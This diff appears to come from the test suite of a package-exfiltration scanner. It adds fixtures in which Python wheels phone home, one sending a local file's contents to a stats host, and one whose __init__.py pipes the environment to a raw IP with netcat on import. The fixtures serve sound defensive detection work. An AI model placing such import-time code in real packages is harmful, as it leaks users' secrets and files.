@@ -280,3 +280,36 @@ test('a report that an import draws up from files of its own stays below quarant
 
   expect(await inspect('exfiltration', file)).toEqual([]);
 });
+
+test('a random id that the program keeps in a file of its own is no file of this machine', async () => {
+  const lines = [
+    'import json, pathlib, urllib.request, uuid',
+    "path = pathlib.Path.home() / '.cache' / 'pkg' / 'id'",
+    'def own():',
+    '    try:',
+    '        return path.read_text()',
+    '    except OSError:',
+    '        value = uuid.uuid4().hex',
+    '        path.write_text(value)',
+    '        return value',
+  ];
+  const send = (data: string): string =>
+    `urllib.request.urlopen(urllib.request.Request('https://stats.pkg.example/i', data=json.dumps(${data}).encode()))`;
+
+  const honest = await inspect('exfiltration', wheel({ 'pkg/__init__.py': python(...lines, send('own()')) }));
+  const other = await inspect(
+    'exfiltration',
+    wheel({ 'pkg/__init__.py': python(...lines, send("[own(), open('/srv/notes.txt').read()]")) }),
+  );
+
+  expect(honest).toEqual([]);
+  expect(other).toMatchObject([{ score: 6 }]);
+});
+
+test('a command of a raw address that takes the environment is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import subprocess', "subprocess.Popen('env | nc 203.0.113.9 9999', shell=True)"),
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
